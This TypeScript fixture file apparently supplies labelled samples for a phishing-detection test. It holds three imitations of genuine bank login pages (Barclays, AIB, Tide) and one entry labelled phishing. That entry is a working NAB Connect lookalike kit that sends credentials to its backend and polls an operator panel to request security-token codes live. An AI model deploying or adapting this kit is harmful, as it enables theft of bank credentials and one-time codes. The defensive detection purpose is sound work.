import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, b64, cookieBanner } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-barclays-olb-own-domain',
  label: 'clean',
  kind: 'business-bank-own-domain',
  url: 'https://bank.barclays.co.uk/olb/authlogin/loginAppContainer.do?segment=business#/identification',
  body: page({
    title: 'Log in to Online Banking | Barclays',
    head: `<link rel="stylesheet" href="/olb/authlogin/static/css/app.3e1f0a.css">`,
    css: `body{margin:0;font-family:"Expert Sans",Arial,sans-serif;background:#f5f5f5;color:#333}
.hd{background:#00395d;padding:16px 28px;display:flex;justify-content:space-between;align-items:center}
.m{max-width:560px;margin:30px auto;background:#fff;padding:30px 36px;border-top:4px solid #00aeef}
h1{font-weight:400;color:#00395d;font-size:28px;margin-top:0}
label{display:block;font-weight:700;margin:16px 0 6px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #8c8c8c;border-radius:3px;font-size:16px}
.b{margin-top:22px;background:#006ddf;color:#fff;border:0;padding:12px 30px;border-radius:3px;font-size:16px;cursor:pointer}
.sec{background:#fff8e6;border-left:4px solid #f7a600;padding:10px 12px;font-size:13px;margin-top:22px}`,
    body: `<div class="hd">${wordmark('BARCLAYS', '#00aeef', { size: 24, weight: 700 })}<a href="https://www.barclays.co.uk/help/" style="color:#fff;font-size:13px">Help</a></div>
<main class="m">
<h1>Log in to Online Banking</h1>
<form method="post" action="/olb/authlogin/loginAppContainer.do" id="login-form">
<input type="hidden" name="formToken" value="b5d1c7f09a2e4e6f8c3d">
<label for="surname">Surname</label><input id="surname" name="surname" autocomplete="family-name" required>
<label for="membership">Membership number</label><input id="membership" name="membershipNumber" inputmode="numeric" maxlength="12">
<p style="font-size:13px"><a href="/olb/authlogin/loginAppContainer.do#/identification/sortcode">Log in with your sort code and account number instead</a></p>
<button class="b" type="submit">Next</button>
</form>
<div class="sec"><b>Barclays will never</b> ask you for your full PIN, passcode or a PINsentry Respond code to "cancel a payment" or "lift a restriction". If someone does, it's a scam – hang up and call 0345 605 2345.</div>
<p style="font-size:12px;color:#777;margin-top:26px">Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority and regulated by the Financial Conduct Authority and the Prudential Regulation Authority (Financial Services Register No. 759676). Registered in England. Registered No. 9740322.</p>
</main>`,
  }),
},
{
  id: 'ya-aib-online-banking-own-domain',
  label: 'clean',
  kind: 'business-bank-own-domain',
  url: 'https://onlinebanking.aib.ie/inet/roi/login.htm?channel=ibb&lang=en',
  body: page({
    title: 'AIB Internet Banking',
    lang: 'en-IE',
    css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f1f1f1;color:#222}
.hd{background:#7f2b7b;padding:14px 28px;color:#fff;font-size:24px;font-weight:700}
.m{max-width:520px;margin:28px auto;background:#fff;padding:28px;border-radius:4px}
h1{color:#7f2b7b;font-size:22px;margin-top:0}
label{display:block;font-weight:600;margin:14px 0 6px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;border-radius:4px;font-size:16px}
.b{margin-top:20px;background:#7f2b7b;color:#fff;border:0;padding:12px 28px;border-radius:4px;font-size:16px;cursor:pointer;width:100%}
.warn{margin-top:20px;font-size:13px;background:#f7eef7;border-left:4px solid #7f2b7b;padding:10px 12px}`,
    body: `<div class="hd">AIB</div>
<main class="m">
<h1>Log in to Internet Banking</h1>
<form method="post" action="/inet/roi/login.htm" id="loginstep1Form">
<input type="hidden" name="transactionToken" value="71849302">
<input type="hidden" name="jsEnabled" value="TRUE">
<label for="regNumber_id">Registration Number</label><input id="regNumber_id" name="regNumber" maxlength="8" inputmode="numeric" autocomplete="off" required>
<button class="b" type="submit">Continue</button>
</form>
<p style="font-size:13px"><a href="https://aib.ie/our-products/internet-banking/how-to-register">Register for Internet Banking</a> · <a href="https://aib.ie/help-and-guidance/contact-us">Help</a></p>
<div class="warn">AIB will never send you a text or email with a link to log in, or ask you to re-register your device by text. <a href="https://aib.ie/fraud-and-security">Fraud and security centre</a></div>
<p style="font-size:11px;color:#666;margin-top:20px">Allied Irish Banks, p.l.c. is regulated by the Central Bank of Ireland.</p>
</main>`,
  }),
},
{
  id: 'ya-nab-connect-live-panel-kit',
  label: 'phishing',
  kind: 'business-bank-kit',
  url: 'https://nabconnect-au.online/nabc/login',
  body: page({
    title: 'NAB Connect',
    lang: 'en-AU',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f3f3;color:#222}
.hd{background:#000;padding:14px 28px;display:flex;align-items:center;gap:10px;color:#fff}
.star{color:#c20000;font-size:26px}
.m{max-width:460px;margin:40px auto;background:#fff;padding:30px;border-top:4px solid #c20000}
label{display:block;font-weight:bold;margin:14px 0 6px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #888;font-size:16px}
.b{margin-top:20px;background:#c20000;color:#fff;border:0;padding:12px;font-size:16px;cursor:pointer;width:100%}
.wait{display:none;text-align:center;padding:30px}.sp{width:38px;height:38px;border:4px solid #eee;border-top-color:#c20000;border-radius:50%;animation:r 1s linear infinite;margin:0 auto 16px}@keyframes r{to{transform:rotate(360deg)}}
.ask{display:none}`,
    body: `<div class="hd"><span class="star">&#9733;</span><b>nab</b> <span style="font-size:13px">NAB Connect</span></div>
<div class="m">
<form id="lg"><h2 style="margin-top:0">Log in to NAB Connect</h2>
<label>Customer ID</label><input name="cid" required><label>User ID</label><input name="uid" required><label>Password</label><input name="pw" type="password" required>
<button class="b">Log in</button></form>
<div class="wait" id="wait"><div class="sp"></div><p>Please wait while we verify your details. Do not refresh this page.</p></div>
<form class="ask" id="ask"><h3 id="q">Enter the code from your NAB Connect token</h3><input name="a" id="a" autocomplete="off"><button class="b">Submit</button></form>
</div>
<script>
var id=localStorage.getItem('v')||Math.random().toString(36).slice(2);localStorage.setItem('v',id);
function show(x){['lg','wait','ask'].forEach(function(k){document.getElementById(k).style.display=(k===x?'block':'none')});}
function poll(){fetch('/nabc/api/status?id='+id).then(function(r){return r.json()}).then(function(j){
 if(j.cmd==='token'||j.cmd==='sms'){document.getElementById('q').textContent=j.text;show('ask');}
 else if(j.cmd==='done'){location.href='https://www.nab.com.au/business';}
 else setTimeout(poll,2500);}).catch(function(){setTimeout(poll,4000)});}
document.getElementById('lg').onsubmit=function(e){e.preventDefault();var b=new FormData(this);b.append('id',id);fetch('/nabc/api/in',{method:'POST',body:b});show('wait');poll();};
document.getElementById('ask').onsubmit=function(e){e.preventDefault();fetch('/nabc/api/in',{method:'POST',body:new URLSearchParams({id:id,a:document.getElementById('a').value})});show('wait');setTimeout(poll,2000);};
</script>`,
  }),
  routes: {
    'nabconnect-au.online/nabc/api/in': jsonRoute({ queued: true }),
    'nabconnect-au.online/nabc/api/status': jsonRoute({ cmd: 'token', text: 'Enter the 6-digit code displayed on your NAB Connect security token' }),
  },
},
{
  id: 'ya-tide-business-web-login-own-domain',
  label: 'clean',
  kind: 'business-bank-own-domain',
  url: 'https://web.tide.co/login?redirect=%2Fdashboard%2Faccounts',
  body: page({
    title: 'Log in | Tide Business',
    css: appCss('#4353ff', '#f4f5fb') + `.qr{width:170px;height:170px;margin:18px auto;background:repeating-conic-gradient(#111 0 25%,#fff 0 50%) 0 0/20px 20px;border:10px solid #fff;outline:1px solid #e4e7eb}ol{font-size:14px;padding-left:20px;line-height:1.7}`,
    body: `<div class="wrap"><main class="panel">
${wordmark('tide', '#4353ff', { size: 30, weight: 800 })}
<h1>Log in to Tide on the web</h1>
<p class="sub">Scan this QR code with the Tide app on your phone.</p>
<div class="qr" role="img" aria-label="Login QR code"></div>
<ol><li>Open the Tide app on your phone</li><li>Tap <b>More</b> → <b>Tide on web</b></li><li>Point your phone at this screen</li></ol>
<p style="font-size:13px;color:#52606d">Tide will never call you and ask you to scan a QR code or move money to a "safe account".</p>
<div class="foot"><a href="https://www.tide.co/help/">Help centre</a><a href="https://www.tide.co/privacy/">Privacy</a><br>Tide is a registered trademark of Tide Platform Ltd. Tide Platform Ltd is registered with the FCA as an Electronic Money Distributor.</div>
</main></div>
<script>
(function tick(){fetch('/api/web-session/poll',{credentials:'include'}).then(function(r){return r.ok?r.json():null}).then(function(j){if(j&&j.status==='authorised')location.href='/dashboard';else setTimeout(tick,3000);}).catch(function(){setTimeout(tick,6000)});})();
</script>`,
  }),
},
];
